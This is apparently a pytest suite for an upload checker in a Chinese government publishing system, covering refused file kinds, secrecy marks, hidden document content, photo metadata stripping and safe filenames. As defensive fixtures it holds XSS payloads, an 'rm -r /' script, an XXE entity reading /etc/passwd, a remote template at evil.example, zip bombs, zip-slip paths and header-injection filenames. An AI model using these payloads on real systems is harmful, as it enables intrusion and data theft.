"""Uploaded files: taken by their content, refused with a sentence, and what they hide is named."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl.comments import Comment
from PIL import Image

from gongkai.publishing.uploads import limits
from gongkai.publishing.uploads.check import Checked, check
from gongkai.publishing.uploads.exceptions import RefusedUploadError
from gongkai.publishing.uploads.names import safe_name
from gongkai.publishing.uploads.serving import headers
from tests.publishing.uploaded import TEXT, added, book, exif, jpeg, packed, pdf, png, repacked, word

OFD_PAGE = f'<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:TextCode>{TEXT}</ofd:TextCode></ofd:Page>'.encode()
OFD = {"OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>', "Doc_0/Pages/Page_0/Content.xml": OFD_PAGE}


def refused(name: str, data: bytes) -> str:
    with pytest.raises(RefusedUploadError) as caught:
        check(name, data)
    told = str(caught.value)
    assert told.endswith("。")
    assert "请" in told
    return told


def codes(checked: Checked) -> set[str]:
    return {finding.code for finding in checked.findings}


TAKEN = {
    "通知.docx": (word(), "docx", set()),
    "通知.xlsx": (book(), "xlsx", set()),
    "通知.pdf": (pdf(), "pdf", set()),
    "通知.ofd": (packed(OFD), "ofd", set()),
    "通知.txt": (TEXT.encode("gb18030"), "txt", set()),
    "表.csv": (b"\xef\xbb\xbf" + "项目,金额\n供暖,3".encode(), "txt", set()),
    "图.png": (png(), "png", {"unreadable"}),
    "图.JPEG": (jpeg(), "jpg", {"unreadable", "location"}),
    "附件.zip": (packed({"甲.txt": b"a", "乙/丙.docx": word()}), "zip", set()),
}


@pytest.mark.parametrize(("name", "row"), TAKEN.items(), ids=TAKEN)
def test_a_clean_file_of_a_taken_kind_passes(name: str, row: tuple[bytes, str, set[str]]) -> None:
    data, kind, found = row
    checked = check(name, data)
    assert (checked.name, checked.kind, codes(checked)) == (name, kind, found)
    assert checked.data == data or kind == "jpg"


def test_a_name_without_an_ending_gets_that_of_its_content() -> None:
    assert check("通知", pdf()).name == "通知.pdf"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
REFUSED_KINDS = {
    "html": ("a.html", HTML, "网页"),
    "html called pdf": ("a.pdf", HTML, "网页"),
    "html called txt": ("a.txt", b"words first <script>alert(1)</script>", "网页"),
    "html in UTF-16": ("a.txt", "<html><script>".encode("utf-16"), "网页"),
    "svg": ("a.svg", SVG, "SVG"),
    "svg called png": ("a.png", SVG, "SVG"),
    "svg behind xml": ("a.svg", b"<?xml version='1.0'?>" + SVG, "SVG"),
    "gif and script": ("a.gif", b"GIF89a/*\0\0*/=1;alert(1)", "种类"),
    "program": ("a.exe", b"MZ\x90\0\x03\0\0\0", "种类"),
    "script": ("a.sh", b"#!/bin/sh\nrm -r /\n", "种类"),
    "rtf": ("a.rtf", b"{\\rtf1 a}", "种类"),
    "old word": ("a.doc", OLE, "旧版"),
    "encrypted docx": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "密码"),
    "seven-zip": ("a.7z", b"7z\xbc\xaf\x27\x1c\0\x04", "种类"),
    "jar": ("a.zip", packed({"META-INF/MANIFEST.MF": b"a", "A.class": b"b"}), "种类"),
    "odt": ("a.odt", packed({"mimetype": b"application/vnd.oasis.opendocument.text"}), "种类"),
    "empty": ("a.txt", b" \n", "空文件"),
    "not text": ("a.txt", b"\x80\x81\xff\xff\xff", "GB18030"),
    "pdf called txt": ("a.txt", pdf(), "与名称不符"),
    "txt called pdf": ("a.pdf", TEXT.encode(), "与名称不符"),
    "pdf and html": ("a.pdf", b"%PDF-1.7\n<html><script>a</script>\n" + pdf(), "夹着"),
    "html then pdf": ("a.pdf", b"words\n" + pdf(), "夹着"),
    "pdf and zip": ("a.pdf", pdf() + packed({"a.txt": b"a"}), "夹着"),
    "png and zip": ("a.png", png() + packed({"a.txt": b"a"}), "夹着"),
    "zip behind a program": ("a.zip", b"MZ" + bytes(100) + packed({"a.txt": b"a"}), "夹着"),
    "something behind a zip": ("a.zip", packed({"a.txt": b"a"}) + b"<html>", "接着"),
    "half a docx": ("a.docx", word()[:2000], "损坏"),
    "half a png": ("a.png", png()[:-8], "损坏"),
    "half a jpeg": ("a.jpg", jpeg()[:-40], "损坏"),
    "half a pdf": ("a.pdf", b"%PDF-1.7\nnothing", "损坏"),
    "pdf with a password": ("a.pdf", pdf(password="a"), "密码"),
    "pdf with a script": ("a.pdf", pdf() + b"\n/JavaScript (a)", "脚本"),
    "macros": ("a.docx", repacked(word(), word__vbaProject_dot_bin=b"a"), "宏"),
    "macros by type": ("a.xlsm", packed({"[Content_Types].xml": b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"}), "宏"),
    "remote template": ("a.docx", repacked(word(), word___rels__settings_dot_xml_dot_rels=b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'), "外部"),
    "entities": ("a.docx", repacked(word(), word__document_dot_xml=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "DTD"),
    "billion laughs in ofd": ("a.ofd", packed(OFD | {"Doc.xml": b'<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;">]><a>&y;</a>'}), "DTD"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data", "why"), REFUSED_KINDS.values(), ids=REFUSED_KINDS)
def test_a_file_that_is_not_what_may_be_taken_is_refused_with_advice(name: str, data: bytes, why: str) -> None:
    assert why in refused(name, data)


def _lying() -> bytes:
    """An archive whose directory says less than comes out."""
    data = bytearray(packed({"a.txt": b"a" * 100_000}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _encrypted() -> bytes:
    data = bytearray(packed({"a.txt": b"a"}))
    for head, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.rfind(head) + at] |= 1
    return bytes(data)


def _overlapping() -> bytes:
    """Two names in the directory for one and the same content."""
    data = packed({"a.txt": b"a" * 1000, "b.txt": b"b" * 1000})
    at = data.rfind(b"PK\x01\x02")
    return data[: at + 42] + bytes(4) + data[at + 46 :]


def _twice() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", b"a")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("a.txt", b"b")
    return file.getvalue()


HOSTILE_ARCHIVES = {
    "bomb": (lambda: packed({"a.txt": bytes(200 * 2**20)}), "解压后超过"),
    "ratio": (lambda: packed({"a.txt": bytes(50 * 2**20)}), "压缩倍数"),
    "members": (lambda: packed({f"{number}.txt": b"a" for number in range(limits.MAX_MEMBERS + 1)}), "个文件"),
    "slip": (lambda: packed({"../a.txt": b"a"}), "指向包外"),
    "root": (lambda: packed({"/a.txt": b"a"}), "指向包外"),
    "drive": (lambda: packed({"C:\\a.txt": b"a"}), "指向包外"),
    "backslash": (lambda: packed({"a\\..\\..\\b.txt": b"a"}), "指向包外"),
    "symlink": (lambda: packed({"a.txt": b"/etc/passwd"}, link="a.txt"), "指向包外"),
    "nested": (lambda: packed({"b.zip": packed({"a.txt": b"a"})}), "压缩包里的压缩包"),
    "program inside": (lambda: packed({"说明.txt": b"MZ\x90\0\x03\0"}), "“说明.txt”"),
    "lying": (_lying, "损坏"),
    "password": (_encrypted, "密码"),
    "overlapping": (_overlapping, "重叠"),
    "twice": (_twice, "重名"),
}


@pytest.mark.parametrize("name", HOSTILE_ARCHIVES)
def test_a_hostile_archive_is_refused_before_it_is_unpacked(name: str) -> None:
    make, why = HOSTILE_ARCHIVES[name]
    assert why in refused("附件.zip", make())


def test_a_file_that_is_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_BYTES", 10)
    assert "MB" in refused("a.txt", b"a" * 11)


HIDDEN_RUN = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>机密★1年</w:t></w:r>"
DELETED = "<w:del w:id='1' w:author='a'><w:r><w:delText>秘密★</w:delText></w:r></w:del>"
MARKED = {
    "text": ("a.txt", "第一行\n机密★10年\n".encode(), "第 2 行"),
    "text in GBK": ("a.txt", "绝 密 ★ 长期".encode("gb18030"), "第 1 行"),
    "alone": ("a.txt", "　秘密\n正文".encode(), "第 1 行"),
    "inner": ("a.txt", "内部资料　注意保存\n正文".encode(), "第 1 行"),
    "inner in brackets": ("a.txt", "【内部资料】\n正文".encode(), "第 1 行"),
    "gaps that print as nothing": ("a.txt", "机\u200b密\u2060★".encode(), "第 1 行"),
    "word": ("a.docx", word(lambda d: d.add_paragraph("机密★5年")), "正文第 2 段"),
    "word, in two runs": ("a.docx", word(lambda d: d.add_paragraph("秘").add_run("密★")), "正文第 2 段"),
    "word, header": ("a.docx", word(lambda d: setattr(d.sections[0].header.paragraphs[0], "text", "内部资料")), "页眉"),
    "word, first page's footer": ("a.docx", word(lambda d: setattr(d.sections[0], "different_first_page_header_footer", True), lambda d: setattr(d.sections[0].first_page_footer.paragraphs[0], "text", "注意保存")), "页脚"),
    "word, table": ("a.docx", word(lambda d: setattr(d.add_table(1, 1).cell(0, 0), "text", "绝密★")), "正文"),
    "word, hidden": ("a.docx", word(added(HIDDEN_RUN)), "正文"),
    "word, deleted": ("a.docx", word(added(DELETED)), "正文"),
    "sheet": ("a.xlsx", book(lambda b: b.active.__setitem__("C7", "秘密★")), "工作表“明细”第 7 行"),
    "sheet, hidden": ("a.xlsx", book(lambda b: b.create_sheet("底稿").__setitem__("A1", "内部资料"), lambda b: setattr(b["底稿"], "sheet_state", "hidden")), "工作表“底稿”"),
    "sheet, header": ("a.xlsx", book(lambda b: setattr(b.active.oddHeader.center, "text", "机密★")), "页眉页脚"),
    "sheet, comment": ("a.xlsx", book(lambda b: setattr(b.active["A1"], "comment", Comment("内部资料", ""))), "批注"),
    "sheet, name": ("a.xlsx", book(lambda b: setattr(b.active, "title", "机密★")), "工作表的名称"),
    "pdf": ("a.pdf", pdf(lambda c: c.setFont("STSong-Light", 14), lambda c: c.drawString(72, 600, "机密★1年")), "第 1 页"),
    "pdf, second page": ("a.pdf", pdf(lambda c: c.showPage(), lambda c: c.setFont("STSong-Light", 14), lambda c: c.drawString(72, 600, "内部资料")), "第 2 页"),
    "ofd": ("a.ofd", packed(OFD | {"b.xml": OFD_PAGE.replace(TEXT.encode(), "秘密★".encode())}), "b.xml"),
    "name": ("机密★名单.txt", b"a", "文件名"),
    "in an archive": ("a.zip", packed({"b.txt": "秘密★".encode()}), "“b.txt”"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data", "place"), MARKED.values(), ids=MARKED)
def test_a_mark_of_secrecy_is_refused_with_its_place(name: str, data: bytes, place: str) -> None:
    told = refused(name, data)
    assert place in told
    assert "涉密" in told


@pytest.mark.parametrize(
    "text",
    [
        "保守国家秘密是公民的义务。",
        "不得公开内部资料，违者处分。",
        "请注意保存收据",
        "商业秘密保护办法",
        "机密文件管理规定全文如下",
    ],
)
def test_to_write_of_secrets_is_not_to_be_one(text: str) -> None:
    assert check("a.txt", text.encode()).findings == ()


def _black(canvas: object) -> None:
    canvas.setFillColorRGB(0, 0, 0)  # type: ignore[attr-defined]
    canvas.rect(60, 690, 400, 24, stroke=0, fill=1)  # type: ignore[attr-defined]


def _black_behind(canvas: object) -> None:
    canvas.setFillColorRGB(0, 0, 0)  # type: ignore[attr-defined]
    canvas.rect(60, 590, 400, 24, stroke=0, fill=1)  # type: ignore[attr-defined]
    canvas.setFillColorRGB(1, 1, 1)  # type: ignore[attr-defined]
    canvas.drawString(72, 600, "white on black")  # type: ignore[attr-defined]


HIDING = {
    "tracked": ("a.docx", word(added("<w:ins w:id='1' w:author='a'><w:r><w:t>新增</w:t></w:r></w:ins>")), "tracked-changes", "1 处修订"),
    "hidden words": ("a.docx", word(added("<w:r><w:rPr><w:vanish/></w:rPr><w:t>联系人电话</w:t></w:r>")), "hidden-text", "联系人电话"),
    "author": ("a.docx", word(lambda d: setattr(d.core_properties, "author", "张三")), "author", "张三"),
    "embedded": ("a.docx", repacked(word(), word__embeddings__oleObject1_dot_bin=b"a"), "embedded", "oleObject1"),
    "hidden sheet": ("a.xlsx", book(lambda b: setattr(b.create_sheet("底稿"), "sheet_state", "veryHidden")), "hidden-sheet", "底稿"),
    "hidden row": ("a.xlsx", book(lambda b: setattr(b.active.row_dimensions[1], "hidden", True)), "hidden-rows", "第 1 行"),
    "hidden column": ("a.xlsx", book(lambda b: setattr(b.active.column_dimensions["B"], "hidden", True)), "hidden-columns", "2—2"),
    "sheet comment": ("a.xlsx", book(lambda b: setattr(b.active["A1"], "comment", Comment("核对过", ""))), "comments", "1 条批注"),
    "black box": ("a.pdf", pdf(_black), "covered-text", f"{len(TEXT)} 个字"),
    "annotation": ("a.pdf", pdf(lambda c: c.textAnnotation("note", (10, 10, 50, 50))), "annotations", "第 1 页"),
    "pdf author": ("a.pdf", pdf(lambda c: c.setAuthor("张三")), "author", "张三"),
    "scan": ("a.pdf", pdf(text=""), "unreadable", "第 1 页"),
    "in an archive": ("a.zip", packed({"b.docx": word(lambda d: setattr(d.core_properties, "author", "张三"))}), "author", "“b.docx”"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data", "code", "told"), HIDING.values(), ids=HIDING)
def test_what_a_file_hides_is_named(name: str, data: bytes, code: str, told: str) -> None:
    found = [finding for finding in check(name, data).findings if finding.code == code]
    assert len(found) == 1
    assert told in found[0].sentence


def test_comments_of_word_are_named() -> None:
    document = word(lambda d: d.add_comment(d.paragraphs[0].runs, text="此处请再核", author="", initials=""))
    assert codes(check("a.docx", document)) == {"comments"}


def test_white_words_on_a_black_ground_are_not_hidden() -> None:
    assert codes(check("a.pdf", pdf(_black_behind))) == set()


@pytest.mark.parametrize("orientation", [1, 6])
def test_a_photograph_loses_place_and_person_and_stays_the_same_picture(orientation: int) -> None:
    given = jpeg(orientation=orientation, tail=b"<script>alert(1)</script>")
    checked = check("a.jpg", given)
    assert not [word for word in (b"somebody", "张三".encode(), b"script", b"\x88\x25") if word in checked.data]
    assert Image.open(io.BytesIO(checked.data)).getexif().get(0x0112, 1) == orientation
    assert Image.open(io.BytesIO(checked.data)).tobytes() == Image.open(io.BytesIO(given)).tobytes()
    assert check("a.jpg", checked.data).data == checked.data
    assert "location" in codes(checked)


def test_a_picture_loses_its_words_too() -> None:
    checked = check("a.png", png((b"tEXt", b"Author\0somebody"), (b"eXIf", exif())) + b"behind")
    assert checked.data == png()
    assert "location" in codes(checked)


def test_a_photograph_with_a_place_in_an_archive_is_refused_since_nothing_in_it_is_changed() -> None:
    assert "地点" in refused("a.zip", packed({"b.jpg": jpeg()}))


@pytest.mark.parametrize(
    ("written", "safe"),
    [
        ("通知（2017）.pdf", "通知（2017）.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\用户\\通知.docx", "通知.docx"),
        ("a\r\nSet-Cookie: b.txt", "a Set-Cookie_ b.txt"),
        ("\u202efdp.exe", "fdp.exe"),
        ("a\0b.txt", "ab.txt"),
        ('a"b|c?.txt', "a_b_c_.txt"),
        ("...", "附件"),
        ("", "附件"),
        (".htaccess", "htaccess"),
        ("con.txt", "_con.txt"),
        ("a.txt. . ", "a.txt"),
        ("a\ud800.txt", "a.txt"),
        ("长" * 300 + ".docx", "长" * 95 + ".docx"),
    ],
)
def test_a_name_is_made_safe(written: str, safe: str) -> None:
    assert safe_name(written) == safe
    assert safe_name(safe) == safe


@pytest.mark.parametrize(
    ("name", "disposition"),
    [
        ("report.pdf", "attachment; filename=\"report.pdf\"; filename*=UTF-8''report.pdf"),
        ("通知 1.pdf", "attachment; filename=\"__ 1.pdf\"; filename*=UTF-8''%E9%80%9A%E7%9F%A5%201.pdf"),
        (
            'a"; filename=evil.html',
            "attachment; filename=\"a__ filename=evil.html\"; filename*=UTF-8''a_%3B%20filename%3Devil.html",
        ),
        ("a\r\nX: y.pdf", "attachment; filename=\"a X_ y.pdf\"; filename*=UTF-8''a%20X_%20y.pdf"),
        ("100%.pdf", "attachment; filename=\"100_.pdf\"; filename*=UTF-8''100%25.pdf"),
    ],
)
def test_a_file_goes_out_to_be_saved_under_its_name(name: str, disposition: str) -> None:
    sent = headers(name, "application/pdf")
    assert sent["Content-Disposition"] == disposition
    assert sent["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert sent["X-Content-Type-Options"] == "nosniff"
    assert all(value.isascii() and value.isprintable() for value in sent.values())
